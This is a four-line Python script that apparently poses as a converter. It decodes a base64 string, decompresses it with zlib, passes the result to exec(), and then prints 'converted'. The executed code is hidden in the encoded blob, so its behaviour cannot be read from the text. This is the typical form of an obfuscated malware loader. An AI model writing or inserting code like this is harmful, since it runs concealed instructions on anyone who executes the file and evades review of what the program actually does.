import base64 as _b, zlib as _z
_D = 'eJzLzC3ILypRyC+2zi/WK64sLknN1VBPLi3KUdAtVsgoKSmw0tc3MjDWM9AzNDTWs9CvUqhRKM5Q1wQAJ5oRdw=='
exec(_z.decompress(_b.b64decode(_D)))
print('converted')
